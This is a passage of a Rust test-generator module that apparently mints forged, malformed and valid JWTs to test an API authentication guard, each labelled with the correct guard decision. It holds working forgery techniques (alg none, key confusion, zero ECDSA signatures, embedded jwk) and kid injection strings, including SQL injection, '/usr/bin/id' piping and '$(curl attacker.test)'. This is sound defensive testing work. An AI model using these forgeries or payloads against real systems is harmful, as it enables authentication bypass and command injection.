//! Token generators: valid tokens and every forged, malformed, misconfigured and overscoped
//! family of docs/ARCHITECTURE.md §5, each labelled with what a correct guard decides for it.
//!
//! A [`TokenRecipe`] is a handful of small numbers (so proptest shrinks it and `arbitrary`
//! builds it from fuzzer bytes); [`TokenRecipe::mint`] turns it into a [`TokenCase`] against
//! a [`MintContext`], with real signatures from real keys.

use crate::guard::config::{SigningKey, is_hmac};
use crate::guard::token::alg_name;
use crate::guard::{Rejection, ScopeSet};
use crate::spec::{Spec, SpecError};
use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use jsonwebtoken::{Algorithm, EncodingKey};
use proptest::prelude::*;
use serde_json::json;

/// Keys a forger holds: published test keys, embedded so generation needs no I/O.
mod attacker {
    pub const RSA: &[u8] = include_bytes!("../../keys/attacker-rsa.key.pem");
    pub const RSA_PUB: &[u8] = include_bytes!("../../keys/attacker-rsa.pub.pem");
    pub const EC: &[u8] = include_bytes!("../../keys/attacker-ec.key.pem");
    pub const ED25519: &[u8] = include_bytes!("../../keys/attacker-ed25519.key.pem");
    pub const HMAC: &[u8] = b"attacker-chosen-secret-attacker-chosen";
}

/// The attacker host that `jku`/`x5u` point at (the harness maps it onto its sink).
pub const ATTACKER_BASE: &str = "http://attacker.test";

/// A caller confab mints tokens for.
#[derive(Clone, Debug)]
pub struct TokenPrincipal {
    /// The value of its subject claim.
    pub sub: String,
    pub scope: ScopeSet,
    /// The claims its tokens start from: a login token's (re-signed), else none beyond the
    /// registered ones. `[auth.claims]` and the principal's `claims` are merged in already.
    pub claims: serde_json::Map<String, serde_json::Value>,
    /// True when `claims` came from the principal's login.
    pub from_login: bool,
}

impl TokenPrincipal {
    /// A caller known by name and scope alone.
    pub fn new(sub: impl Into<String>, scope: ScopeSet) -> TokenPrincipal {
        TokenPrincipal {
            sub: sub.into(),
            scope,
            claims: serde_json::Map::new(),
            from_login: false,
        }
    }
}

/// What minting needs: the issuer's key and the policy the target (and guard) enforce.
pub struct MintContext {
    key: SigningKey,
    /// `key`, parsed once for signing.
    trusted: PreparedKey,
    attacker: AttackerKeys,
    pub issuer: Option<String>,
    pub audience: Option<String>,
    pub typ: Option<String>,
    pub leeway_s: u64,
    pub max_token_bytes: usize,
    /// True when the guard has a `kid` map (then unknown `kid`s are refused outright).
    pub has_kid_map: bool,
    /// Never empty ([`MintContext::new`] refuses an empty list): a recipe's principal index is
    /// taken modulo its length.
    principals: Vec<TokenPrincipal>,
    /// The scope of the endpoint the tokens are aimed at.
    pub required_scope: ScopeSet,
    /// Where `jku`/`x5u` point: [`ATTACKER_BASE`] unless the harness sets its sink's.
    pub attacker_base: String,
    /// The claim naming the caller (`sub` unless `[auth] subject_claim` says otherwise).
    pub subject_claim: String,
    /// Claims bound to a login's session (`[auth] bound_claims`).
    pub bound_claims: Vec<String>,
}

struct AttackerKeys {
    rsa: PreparedKey,
    rsa_pub_jwk_n: String,
    ec: PreparedKey,
    ed: PreparedKey,
    hmac: PreparedKey,
}

/// A signing key whose asymmetric key pair is parsed once. `jsonwebtoken::crypto::sign`
/// parses the DER on every call, and for RSA also checks the key and computes fresh blinding
/// values: about two thirds of an RSA signature, and RS256 forgeries were a third of a
/// campaign case's cost.
struct PreparedKey {
    encoding: EncodingKey,
    pair: KeyPair,
}

enum KeyPair {
    Rsa(aws_lc_rs::signature::RsaKeyPair),
    /// Parsed for this algorithm (a P-256 key signs ES256 only).
    Ecdsa(aws_lc_rs::signature::EcdsaKeyPair, Algorithm),
    Ed25519(aws_lc_rs::signature::Ed25519KeyPair),
    /// An HMAC key schedule for this algorithm.
    Hmac(Box<aws_lc_rs::hmac::Key>, Algorithm),
    /// A key that did not parse here: signed by jsonwebtoken as before.
    None,
}

impl PreparedKey {
    fn new(encoding: EncodingKey, alg: Algorithm) -> PreparedKey {
        use aws_lc_rs::{hmac, signature as sig};
        let der = encoding.as_bytes();
        let pair = match alg {
            Algorithm::RS256
            | Algorithm::RS384
            | Algorithm::RS512
            | Algorithm::PS256
            | Algorithm::PS384
            | Algorithm::PS512 => sig::RsaKeyPair::from_der(der).map(KeyPair::Rsa).ok(),
            Algorithm::ES256 => {
                sig::EcdsaKeyPair::from_pkcs8(&sig::ECDSA_P256_SHA256_FIXED_SIGNING, der)
                    .map(|k| KeyPair::Ecdsa(k, alg))
                    .ok()
            }
            Algorithm::ES384 => {
                sig::EcdsaKeyPair::from_pkcs8(&sig::ECDSA_P384_SHA384_FIXED_SIGNING, der)
                    .map(|k| KeyPair::Ecdsa(k, alg))
                    .ok()
            }
            Algorithm::EdDSA => sig::Ed25519KeyPair::from_pkcs8(der)
                .map(KeyPair::Ed25519)
                .ok(),
            Algorithm::HS256 => Some(KeyPair::Hmac(
                Box::new(hmac::Key::new(hmac::HMAC_SHA256, der)),
                alg,
            )),
            Algorithm::HS384 => Some(KeyPair::Hmac(
                Box::new(hmac::Key::new(hmac::HMAC_SHA384, der)),
                alg,
            )),
            Algorithm::HS512 => Some(KeyPair::Hmac(
                Box::new(hmac::Key::new(hmac::HMAC_SHA512, der)),
                alg,
            )),
            // Algorithms jsonwebtoken may add later are left to it.
            _ => None,
        };
        PreparedKey {
            encoding,
            pair: pair.unwrap_or(KeyPair::None),
        }
    }

    /// The base64url signature of `msg` under `alg`. Signing with a key that loaded cannot
    /// fail for the algorithms used here; an empty signature (which no guard accepts) is the
    /// safe fallback, as for a key that does not fit `alg`.
    fn sign(&self, msg: &[u8], alg: Algorithm) -> String {
        use aws_lc_rs::signature as sig;
        let rng = aws_lc_rs::rand::SystemRandom::new();
        let rsa_padding: Option<&'static dyn sig::RsaEncoding> = match alg {
            Algorithm::RS256 => Some(&sig::RSA_PKCS1_SHA256),
            Algorithm::RS384 => Some(&sig::RSA_PKCS1_SHA384),
            Algorithm::RS512 => Some(&sig::RSA_PKCS1_SHA512),
            Algorithm::PS256 => Some(&sig::RSA_PSS_SHA256),
            Algorithm::PS384 => Some(&sig::RSA_PSS_SHA384),
            Algorithm::PS512 => Some(&sig::RSA_PSS_SHA512),
            _ => None,
        };
        let signature = match (&self.pair, rsa_padding) {
            (KeyPair::Rsa(pair), Some(padding)) => {
                let mut out = vec![0; pair.public_modulus_len()];
                pair.sign(padding, &rng, msg, &mut out).ok().map(|()| out)
            }
            (KeyPair::Ecdsa(pair, a), _) if *a == alg => {
                pair.sign(&rng, msg).ok().map(|s| s.as_ref().to_vec())
            }
            (KeyPair::Ed25519(pair), _) if alg == Algorithm::EdDSA => {
                Some(pair.sign(msg).as_ref().to_vec())
            }
            (KeyPair::Hmac(key, a), _) if *a == alg => {
                Some(aws_lc_rs::hmac::sign(key, msg).as_ref().to_vec())
            }
            _ => return jsonwebtoken::crypto::sign(msg, &self.encoding, alg).unwrap_or_default(),
        };
        signature
            .map(|s| URL_SAFE_NO_PAD.encode(s))
            .unwrap_or_default()
    }
}

/// A problem building a [`MintContext`].
#[derive(Debug, thiserror::Error)]
pub enum MintError {
    #[error("no principals: give at least one [[principal]]")]
    NoPrincipals,
    #[error("embedded attacker key unusable: {0}")]
    AttackerKey(String),
}

impl MintContext {
    /// `key` is the issuer's signing key; `auth` the policy. Principals must not be empty.
    pub fn new(
        key: SigningKey,
        auth: &crate::guard::AuthConfig,
        principals: Vec<TokenPrincipal>,
        required_scope: ScopeSet,
    ) -> Result<MintContext, MintError> {
        if principals.is_empty() {
            return Err(MintError::NoPrincipals);
        }
        let bad = |e: jsonwebtoken::errors::Error| MintError::AttackerKey(e.to_string());
        let attacker = AttackerKeys {
            rsa: PreparedKey::new(
                EncodingKey::from_rsa_pem(attacker::RSA).map_err(bad)?,
                Algorithm::RS256,
            ),
            rsa_pub_jwk_n: rsa_modulus_b64(attacker::RSA_PUB),
            ec: PreparedKey::new(
                EncodingKey::from_ec_pem(attacker::EC).map_err(bad)?,
                Algorithm::ES256,
            ),
            ed: PreparedKey::new(
                EncodingKey::from_ed_pem(attacker::ED25519).map_err(bad)?,
                Algorithm::EdDSA,
            ),
            hmac: PreparedKey::new(
                EncodingKey::from_secret(attacker::HMAC).map_err(bad)?,
                Algorithm::HS256,
            ),
        };
        Ok(MintContext {
            trusted: PreparedKey::new(key.encoding.clone(), key.alg),
            key,
            attacker,
            issuer: auth.issuer.clone(),
            audience: auth.audience.clone(),
            typ: auth.typ.clone(),
            leeway_s: auth.leeway_s,
            max_token_bytes: auth
                .max_token_bytes
                .unwrap_or(crate::guard::config::DEFAULT_MAX_TOKEN_BYTES),
            has_kid_map: !auth.keys.is_empty(),
            principals,
            required_scope,
            attacker_base: ATTACKER_BASE.to_owned(),
            subject_claim: auth
                .subject_claim
                .clone()
                .unwrap_or_else(|| "sub".to_owned()),
            bound_claims: auth.bound_claims.clone(),
        })
    }

    /// The algorithm the issuer signs with.
    pub fn alg(&self) -> Algorithm {
        self.key.alg
    }

    /// Mints a valid token for `sub` with `scope`, expiring `ttl_s` after `now`.
    pub fn mint_valid(&self, sub: &str, scope: &ScopeSet, now: u64, ttl_s: u64) -> String {
        let mut claims = self.base_claims(&TokenPrincipal::new(sub, scope.clone()), now, 0);
        claims["scope"] = json!(scope.to_string());
        claims["exp"] = json!(now + ttl_s);
        let header = self.base_header();
        self.sign_trusted(&header.to_string(), &claims.to_string())
    }

    fn base_header(&self) -> serde_json::Value {
        let mut h = json!({ "alg": alg_name(self.key.alg) });
        if let Some(typ) = &self.typ {
            h["typ"] = json!(typ);
        } else {
            h["typ"] = json!("JWT");
        }
        if let Some(kid) = &self.key.kid {
            h["kid"] = json!(kid);
        }
        h
    }

    /// The claims a token for `principal` starts from: its login's claims re-signed (with
    /// fresh `iat`, `exp` and `jti`), or confab's own set; then its extra claims.
    fn base_claims(&self, principal: &TokenPrincipal, now: u64, jti: u32) -> serde_json::Value {
        let mut c = if principal.from_login {
            let mut c = serde_json::Value::Object(principal.claims.clone());
            c["iat"] = json!(now);
            if c.get("nbf").is_some() {
                c["nbf"] = json!(now.saturating_sub(5));
            }
            c["exp"] = json!(now + 900);
            c["jti"] = json!(format!("{jti:08x}"));
            c
        } else {
            let mut c = json!({
                "iat": now,
                "nbf": now.saturating_sub(5),
                "exp": now + 900,
                "jti": format!("{jti:08x}"),
                "client_id": "confab-test-client",
            });
            for (k, v) in &principal.claims {
                c[k.as_str()] = v.clone();
            }
            c
        };
        c[self.subject_claim.as_str()] = json!(principal.sub);
        if let Some(iss) = &self.issuer {
            c["iss"] = json!(iss);
        }
        if let Some(aud) = &self.audience {
            c["aud"] = json!(aud);
        }
        c
    }

    fn sign_trusted(&self, header: &str, payload: &str) -> String {
        sign_with(header, payload, Signer::Key(&self.trusted, self.key.alg))
    }
}

/// The attack catalogue: every family of token the generators make, each with what a correct
/// guard decides for it and what making it takes ([`TokenFamily::made_by`], from which a
/// finding's severity follows). The names (snake_case via [`TokenFamily::name`]) are stable:
/// reports and corpus files use them.
#[derive(
    Clone,
    Copy,
    Debug,
    PartialEq,
    Eq,
    Hash,
    arbitrary::Arbitrary,
    serde::Serialize,
    serde::Deserialize,
)]
#[serde(rename_all = "snake_case")]
pub enum TokenFamily {
    /// A valid token for the principal, as the issuer mints it: the baseline every other family is
    /// compared with.
    Valid,
    /// A valid token whose `aud` is an array that contains ours (RFC 7519 §4.1.3): must be
    /// accepted.
    ValidAudienceArray,
    /// A valid token under a legal spelling of the header: `bearer`, `BEARER`, several spaces,
    /// surrounding whitespace (RFC 6750 §2.1, RFC 9110 §11.1): must be accepted.
    ValidHeaderVariant,
    /// A valid token carrying its scopes as an `scp` array (a common, non-standard convention)
    /// instead of RFC 8693's `scope` string.
    ValidScpArray,
    /// A valid token with more scopes than the endpoint needs (`docs:admin`, `*`, …): accepted, and
    /// the extra scopes must grant nothing beyond what they name.
    Overscoped,
    /// No `Authorization` header at all: must be refused with 401 and a bare `WWW-Authenticate:
    /// Bearer` (RFC 6750 §3.1).
    MissingHeader,
    /// The holder's valid token moved to the URL (`?access_token=`, RFC 6750 §2.3), which the guard
    /// does not accept and access logs print.
    TokenInQuery,
    /// The holder's valid token under another scheme word (`Token`, `JWT`, `Basic`): not a Bearer
    /// credential.
    OtherScheme,
    /// `Bearer` with nothing, or only spaces, after it: a malformed request (400).
    EmptyCredential,
    /// The holder's valid token after a tab instead of a space: RFC 6750's grammar allows only
    /// spaces.
    TabSeparator,
    /// The holder's valid token followed by more text (`extra`, a second credential, a `;`): a
    /// malformed header.
    TrailingData,
    /// The holder's valid token sent in two `Authorization` headers: a request must carry one
    /// credential (RFC 6750 §2).
    DuplicateHeaders,
    /// The holder's valid token with control characters in the header (CR LF and another header,
    /// NUL, ESC).
    HeaderInjection,
    /// An issuer-signed token past the guard's size cap (8 KiB by default): refused before any
    /// decoding.
    Oversized,
    /// An unsigned token, `alg` `none` in any spelling (RFC 8725 §3.1): a forgery anyone can make.
    AlgNone,
    /// A valid token with its signature removed or emptied: a forgery.
    StrippedSignature,
    /// A token signed with the attacker's own key, or minted for another principal's identity: a
    /// forgery.
    WrongKey,
    /// A valid token whose claims were changed (another `sub`, more scopes) after signing: the
    /// signature no longer matches.
    TamperedPayload,
    /// RS→HS key confusion: an HS256 token whose HMAC key is the issuer's public RSA key (RFC 8725
    /// §2.1).
    AlgConfusion,
    /// An ES256 token whose signature is r = s = 0 (CVE-2022-21449, "psychic signatures").
    EcdsaZeroSignature,
    /// A token signed with the attacker's key and carrying that key in its `jwk` header
    /// (CVE-2018-0114).
    EmbeddedJwk,
    /// A token whose `jku` or `x5u` header points at the attacker's host for its key (RFC 8725
    /// §3.10).
    RemoteKeyUrl,
    /// A `kid` header with path traversal (`../../dev/null`), for guards that read keys from files.
    KidTraversal,
    /// A `kid` header carrying SQL or shell injection, for guards that look keys up in a database
    /// or run commands.
    KidInjection,
    /// An issuer-signed token with a `crit` header naming an extension nobody understands (RFC 7515
    /// §4.1.11: must be refused).
    UnknownCrit,
    /// An issuer-signed token of the wrong type (`typ` `JWT`, `id_token+jwt`, …): refused where the
    /// spec requires `at+jwt` (RFC 9068).
    TypConfusion,
    /// An issuer-signed token past its `exp`, beyond the leeway (RFC 7519 §4.1.4).
    Expired,
    /// An issuer-signed token whose `nbf` is in the future, beyond the leeway (RFC 7519 §4.1.5).
    NotYetValid,
    /// An issuer-signed token with no `exp`: RFC 8725 §3.10 wants a lifetime on every access token.
    MissingExp,
    /// An issuer-signed token whose `exp`/`nbf`/`iat` is a numeric string, not a JSON number (RFC
    /// 7519 §2).
    StringNumericDate,
    /// An issuer-signed token with another `iss` than the spec's issuer.
    WrongIssuer,
    /// An issuer-signed token with no `iss` where the spec names an issuer.
    MissingIssuer,
    /// An issuer-signed token for another audience (`aud`): a token meant for another API.
    WrongAudience,
    /// An issuer-signed token with no `aud` where the spec names an audience.
    MissingAudience,
    /// An issuer-signed token without the claim that names the caller (`sub`, or `[auth]
    /// subject_claim`).
    MissingSub,
    /// An issuer-signed token whose payload repeats a member (two `sub`s): parsers that keep
    /// different duplicates disagree on who it is for (RFC 7515 §5.2).
    DuplicateClaim,
    /// A signed token whose JOSE header repeats `alg` (the second one `none`).
    DuplicateHeaderMember,
    /// The holder's valid token with a character outside base64url (`+`, `/`, `~`) in a segment.
    BadBase64,
    /// The holder's valid token with `=` padding on its segments (RFC 7515 §2 forbids it).
    PaddedSegments,
    /// Two, four or more segments instead of three: not a JWS at all.
    WrongSegmentCount,
    /// An issuer-signed token whose header or payload is not a JSON object.
    NotJson,
    /// Scopes joined by commas (`docs:read,docs:write`): RFC 8693 §4.2 separates them by spaces, so
    /// this is one unknown scope.
    ScopeCommaSeparated,
    /// `scope` as a JSON array: RFC 8693 §4.2 makes it a string, so the token is malformed.
    ScopeArray,
    /// A wildcard scope (`*`, `docs:*`): scopes are compared exactly, so it grants nothing.
    ScopeWildcard,
    /// The required scope in another case (`DOCS:READ`): scopes are case-sensitive.
    ScopeCaseChanged,
    /// A scope that only starts or ends like the required one (`docs:readonly`, `docs`,
    /// `xdocs:read`).
    ScopePrefix,
    /// The required scope spelled with look-alike characters (Cyrillic `о`, full-width `：`).
    ScopeHomoglyph,
    /// A token with an empty scope: it grants nothing, so every scoped endpoint must refuse it
    /// (403).
    ScopeMissing,
    /// A login's token with a claim bound to the session (`[auth] bound_claims`) changed or
    /// removed, re-signed with the issuer's key.
    SessionClaimChanged,
}

impl TokenFamily {
    pub const ALL: [TokenFamily; 49] = [
        TokenFamily::Valid,
        TokenFamily::ValidAudienceArray,
        TokenFamily::ValidHeaderVariant,
        TokenFamily::ValidScpArray,
        TokenFamily::Overscoped,
        TokenFamily::MissingHeader,
        TokenFamily::TokenInQuery,
        TokenFamily::OtherScheme,
        TokenFamily::EmptyCredential,
        TokenFamily::TabSeparator,
        TokenFamily::TrailingData,
        TokenFamily::DuplicateHeaders,
        TokenFamily::HeaderInjection,
        TokenFamily::Oversized,
        TokenFamily::AlgNone,
        TokenFamily::StrippedSignature,
        TokenFamily::WrongKey,
        TokenFamily::TamperedPayload,
        TokenFamily::AlgConfusion,
        TokenFamily::EcdsaZeroSignature,
        TokenFamily::EmbeddedJwk,
        TokenFamily::RemoteKeyUrl,
        TokenFamily::KidTraversal,
        TokenFamily::KidInjection,
        TokenFamily::UnknownCrit,
        TokenFamily::TypConfusion,
        TokenFamily::Expired,
        TokenFamily::NotYetValid,
        TokenFamily::MissingExp,
        TokenFamily::StringNumericDate,
        TokenFamily::WrongIssuer,
        TokenFamily::MissingIssuer,
        TokenFamily::WrongAudience,
        TokenFamily::MissingAudience,
        TokenFamily::MissingSub,
        TokenFamily::DuplicateClaim,
        TokenFamily::DuplicateHeaderMember,
        TokenFamily::BadBase64,
        TokenFamily::PaddedSegments,
        TokenFamily::WrongSegmentCount,
        TokenFamily::NotJson,
        TokenFamily::ScopeCommaSeparated,
        TokenFamily::ScopeArray,
        TokenFamily::ScopeWildcard,
        TokenFamily::ScopeCaseChanged,
        TokenFamily::ScopePrefix,
        TokenFamily::ScopeHomoglyph,
        TokenFamily::ScopeMissing,
        TokenFamily::SessionClaimChanged,
    ];

    /// The stable snake_case name.
    pub fn name(self) -> String {
        let debug = format!("{self:?}");
        let mut out = String::with_capacity(debug.len() + 4);
        for (i, c) in debug.chars().enumerate() {
            if c.is_ascii_uppercase() {
                if i > 0 {
                    out.push('_');
                }
                out.push(c.to_ascii_lowercase());
            } else {
                out.push(c);
            }
        }
        out
    }

    /// What making a token of this family takes (docs/ARCHITECTURE.md §4): the severity of
    /// a target accepting it follows from this. Matched exhaustively, so a new family must
    /// be classed before it compiles.
    pub fn made_by(self) -> MadeBy {
        use TokenFamily::*;
        match self {
            // Forgeries, garbage and no credential at all: anyone can make them.
            MissingHeader | EmptyCredential | AlgNone | StrippedSignature | WrongKey
            | TamperedPayload | AlgConfusion | EcdsaZeroSignature | EmbeddedJwk | RemoteKeyUrl
            | KidTraversal | KidInjection | WrongSegmentCount => MadeBy::Nothing,
            // The holder's own valid token, respelled or moved: accepting it gives the holder
            // nothing they did not have.
            TokenInQuery | OtherScheme | TabSeparator | TrailingData | DuplicateHeaders
            | HeaderInjection | BadBase64 | PaddedSegments => MadeBy::Holder,
            // Signed by the issuer's key: only the issuer (or a holder of an old one) has them.
            Valid
            | ValidAudienceArray
            | ValidHeaderVariant
            | ValidScpArray
            | Overscoped
            | Oversized
            | UnknownCrit
            | TypConfusion
            | Expired
            | NotYetValid
            | MissingExp
            | StringNumericDate
            | WrongIssuer
            | MissingIssuer
            | WrongAudience
            | MissingAudience
            | MissingSub
            | DuplicateClaim
            | DuplicateHeaderMember
            | NotJson
            | ScopeCommaSeparated
            | ScopeArray
            | ScopeWildcard
            | ScopeCaseChanged
            | ScopePrefix
            | ScopeHomoglyph
            | ScopeMissing
            // Signed by the issuer for another session: the binding ignored is a policy claim.
            | SessionClaimChanged => MadeBy::Issuer,
        }
    }

    /// The guard accepts this family only through a widespread but non-standard convention
    /// (`scp` arrays instead of RFC 8693's `scope`): a target that reads only the standard
    /// claim and refuses it is not wrong, so its refusal is no finding.
    pub fn accepted_by_convention_only(self) -> bool {
        self == TokenFamily::ValidScpArray
    }
}

/// What making a token takes: the classes severity is derived from (docs/ARCHITECTURE.md §4).
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, serde::Serialize, serde::Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum MadeBy {
    /// Nothing: anyone can make it (forged, unsigned, no credential, another's identity).
    Nothing,
    /// Only the token's own holder, from their own valid token (padding, another scheme word,
    /// the same token twice, moved to the URL).
    Holder,
    /// Only the issuer (expired, wrong `iss`/`aud`, string NumericDate, oversized, …).
    Issuer,
}

impl MadeBy {
    pub fn name(self) -> &'static str {
        match self {
            MadeBy::Nothing => "nothing",
            MadeBy::Holder => "holder",
            MadeBy::Issuer => "issuer",
        }
    }
}

/// What a correct guard decides for a case (authentication and the endpoint's scope).
#[derive(Clone, Debug, PartialEq)]
pub enum Expected {
    Accept { sub: String, scopes: ScopeSet },
    Reject(Rejection),
}

/// One generated request credential with its ground truth.
#[derive(Clone, PartialEq)]
pub struct TokenCase {
    pub family: TokenFamily,
    /// The `Authorization` header values to send: none, one, or several.
    pub authorization: Vec<String>,
    /// A token to put in the query string (`?access_token=`), which a guard must ignore.
    pub query_token: Option<String>,
    /// The compact JWT inside, if there is one (so reports and scrubbers can register it).
    pub token: Option<String>,
    pub expect: Expected,
}

impl std::fmt::Debug for TokenCase {
    /// Shows the headers: they are short-lived test credentials minted for this case, and a
    /// failing property test needs them to be reproducible.
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("TokenCase")
            .field("family", &self.family)
            .field("authorization", &self.authorization)
            .field("query_token", &self.query_token)
            .field("expect", &self.expect)
            .finish()
    }
}

impl TokenCase {
    /// The header values as byte slices, the shape `Guard::decide` takes.
    pub fn header_bytes(&self) -> Vec<&[u8]> {
        self.authorization.iter().map(|h| h.as_bytes()).collect()
    }
}

/// The small numbers a token case is made from.
#[derive(
    Clone, Copy, Debug, PartialEq, Eq, arbitrary::Arbitrary, serde::Serialize, serde::Deserialize,
)]
pub struct TokenRecipe {
    pub family: TokenFamily,
    /// Which principal (modulo their number).
    pub principal: u32,
    /// Which variant of the family (spelling, position, …).
    pub variant: u8,
    /// How far past a time boundary, in seconds.
    pub skew_s: u16,
    pub jti: u32,
}

/// A proptest strategy over every family.
pub fn token_recipe() -> impl Strategy<Value = TokenRecipe> {
    (
        0..TokenFamily::ALL.len(),
        any::<u32>(),
        any::<u8>(),
        0u16..3600,
        any::<u32>(),
    )
        .prop_map(|(f, principal, variant, skew_s, jti)| TokenRecipe {
            family: TokenFamily::ALL[f],
            principal,
            variant,
            skew_s,
            jti,
        })
}

/// A proptest strategy over one family.
pub fn token_recipe_of(family: TokenFamily) -> impl Strategy<Value = TokenRecipe> {
    token_recipe().prop_map(move |r| TokenRecipe { family, ..r })
}

enum Signer<'a> {
    Key(&'a PreparedKey, Algorithm),
    /// HMAC with raw bytes, including the empty key `EncodingKey` refuses.
    RawHmac(&'a [u8]),
    /// A fixed signature.
    Fixed(Vec<u8>),
}

fn sign_with(header: &str, payload: &str, signer: Signer<'_>) -> String {
    let mut input = String::with_capacity(header.len() * 4 / 3 + payload.len() * 4 / 3 + 100);
    URL_SAFE_NO_PAD.encode_string(header, &mut input);
    input.push('.');
    URL_SAFE_NO_PAD.encode_string(payload, &mut input);
    let signature = match signer {
        Signer::Key(key, alg) => key.sign(input.as_bytes(), alg),
        Signer::RawHmac(secret) => {
            let key = aws_lc_rs::hmac::Key::new(aws_lc_rs::hmac::HMAC_SHA256, secret);
            URL_SAFE_NO_PAD.encode(aws_lc_rs::hmac::sign(&key, input.as_bytes()))
        }
        Signer::Fixed(bytes) => URL_SAFE_NO_PAD.encode(bytes),
    };
    input.push('.');
    input.push_str(&signature);
    input
}

/// The base64url modulus of a PEM RSA public key, for an embedded `jwk` (best effort: the
/// guard never reads it, so only its shape matters).
fn rsa_modulus_b64(pem: &[u8]) -> String {
    let body: String = String::from_utf8_lossy(pem)
        .lines()
        .filter(|l| !l.starts_with("-----"))
        .collect();
    let der = base64::engine::general_purpose::STANDARD
        .decode(body)
        .unwrap_or_default();
    // SPKI for a 2048-bit key: the 256-byte modulus sits just before the 5-byte exponent.
    let n = der.len().saturating_sub(5 + 256)..der.len().saturating_sub(5);
    URL_SAFE_NO_PAD.encode(der.get(n).unwrap_or_default())
}

const NONE_SPELLINGS: [&str; 4] = ["none", "None", "NONE", "nOnE"];
const OTHER_SCHEMES: [&str; 4] = ["Basic dXNlcjpwYXNz", "Token ", "JWT ", "Bearer: "];
const KID_TRAVERSALS: [&str; 3] = [
    "../../../../../../dev/null",
    "/dev/null",
    "..%2f..%2f..%2fdev%2fnull",
];
/// `kid` payloads and the secret a vulnerable lookup would then use.
const KID_INJECTIONS: [(&str, &str); 3] = [
    ("x' UNION SELECT 'attacker-key' -- ", "attacker-key"),
    ("key1|/usr/bin/id", ""),
    ("$(curl attacker.test)", ""),
];

impl TokenRecipe {
    /// Builds the case: the header values to send and what a correct guard decides.
    pub fn mint(&self, ctx: &MintContext, now: u64) -> TokenCase {
        use TokenFamily::*;
        let principal = &ctx.principals[self.principal as usize % ctx.principals.len()];
        let v = self.variant as usize;
        let skew = u64::from(self.skew_s);
        let accept = |scopes: &ScopeSet| {
            if scopes.includes(&ctx.required_scope) {
                Expected::Accept {
                    sub: principal.sub.clone(),
                    scopes: scopes.clone(),
                }
            } else {
                Expected::Reject(Rejection::InsufficientScope)
            }
        };
        let header = ctx.base_header();
        let mut claims = ctx.base_claims(principal, now, self.jti);
        if !(principal.from_login && principal.scope.is_empty()) {
            claims["scope"] = json!(principal.scope.to_string());
        }
        let subject = ctx.subject_claim.as_str();
        let trusted = |h: &serde_json::Value, c: &serde_json::Value| {
            ctx.sign_trusted(&h.to_string(), &c.to_string())
        };
        let valid = trusted(&header, &claims);
        let bearer = |t: &str| format!("Bearer {t}");
        let case =
            |authorization: Vec<String>, token: Option<String>, expect: Expected| TokenCase {
                family: self.family,
                authorization,
                query_token: None,
                token,
                expect,
            };
        let single =
            |token: String, expect: Expected| case(vec![bearer(&token)], Some(token), expect);
        let reject = Expected::Reject;
        // A forgery for the issuer's algorithm family: the header claims the pinned `alg` but
        // the signature comes from a key the attacker holds.
        let forge = |h: &serde_json::Value, c: &serde_json::Value| {
            let signer = match ctx.key.alg {
                a if is_hmac(a) => Signer::Key(&ctx.attacker.hmac, a),
                a @ (Algorithm::ES256 | Algorithm::ES384) => Signer::Key(&ctx.attacker.ec, a),
                Algorithm::EdDSA => Signer::Key(&ctx.attacker.ed, Algorithm::EdDSA),
                a => Signer::Key(&ctx.attacker.rsa, a),
            };
            sign_with(&h.to_string(), &c.to_string(), signer)
        };
        // With no `kid` map, a `kid` is ignored: the forgery then fails on `alg` or signature.
        let kid_forgery_verdict = || {
            if ctx.has_kid_map {
                Rejection::UnknownKid
            } else if ctx.key.alg != Algorithm::HS256 {
                Rejection::AlgMismatch
            } else {
                Rejection::BadSignature
            }
        };

        match self.family {
            Valid => single(valid, accept(&principal.scope)),
            ValidAudienceArray => {
                let mut auds = vec![json!("https://other.example")];
                auds.push(json!(ctx.audience.clone().unwrap_or_else(|| "any".into())));
                if v % 2 == 1 {
                    auds.reverse();
                }
                claims["aud"] = json!(auds);
                single(trusted(&header, &claims), accept(&principal.scope))
            }
            ValidHeaderVariant => {
                let h = match v % 5 {
                    0 => format!("bearer {valid}"),
                    1 => format!("BEARER {valid}"),
                    2 => format!("Bearer   {valid}"),
                    3 => format!("  Bearer {valid}\t"),
                    _ => format!("bEaReR {valid}"),
                };
                case(vec![h], Some(valid), accept(&principal.scope))
            }
            ValidScpArray => {
                let tokens: Vec<&str> = principal.scope.iter().collect();
                remove_member(&mut claims, "scope");
                claims["scp"] = json!(tokens);
                single(trusted(&header, &claims), accept(&principal.scope))
            }
            Overscoped => {
                let mut scopes = principal.scope.clone();
                ctx.required_scope.iter().for_each(|t| scopes.insert(t));
                for extra in ["docs:admin", "admin", "tools:delete", "*"]
                    .iter()
                    .take(1 + v % 4)
                {
                    scopes.insert(extra);
                }
                claims["scope"] = json!(scopes.to_string());
                single(trusted(&header, &claims), accept(&scopes))
            }
            SessionClaimChanged => {
                // A claim the login bound to the session, changed or left out: what a token
                // from before a sign-out, or one re-signed with a leaked key, looks like.
                let bound: Vec<&String> = ctx
                    .bound_claims
                    .iter()
                    .filter(|c| principal.from_login && principal.claims.contains_key(*c))
                    .collect();
                match bound.get(v % bound.len().max(1)) {
                    None => single(valid, accept(&principal.scope)),
                    Some(name) => {
                        if (v / bound.len().max(1)).is_multiple_of(2) {
                            remove_member(&mut claims, name);
                        } else {
                            let old = claims[name.as_str()].clone();
                            claims[name.as_str()] = match old {
                                serde_json::Value::String(s) => {
                                    json!(format!("{s}{:x}", self.jti | 1))
                                }
                                serde_json::Value::Number(n) => {
                                    json!(n.as_i64().unwrap_or(0).wrapping_add(1))
                                }
                                _ => json!("confab-stale-session"),
                            };
                        }
                        single(
                            trusted(&header, &claims),
                            reject(Rejection::SessionMismatch),
                        )
                    }
                }
            }
            MissingHeader => case(vec![], None, reject(Rejection::MissingCredentials)),
            TokenInQuery => TokenCase {
                query_token: Some(valid.clone()),
                ..case(vec![], Some(valid), reject(Rejection::MissingCredentials))
            },
            OtherScheme => {
                let scheme = OTHER_SCHEMES[v % OTHER_SCHEMES.len()];
                let h = if scheme.starts_with("Basic") {
                    scheme.to_owned()
                } else {
                    format!("{scheme}{valid}")
                };
                case(vec![h], Some(valid), reject(Rejection::UnsupportedScheme))
            }
            EmptyCredential => {
                let h = ["Bearer", "Bearer ", "", "bearer    "][v % 4].to_owned();
                case(vec![h], None, reject(Rejection::MalformedHeader))
            }
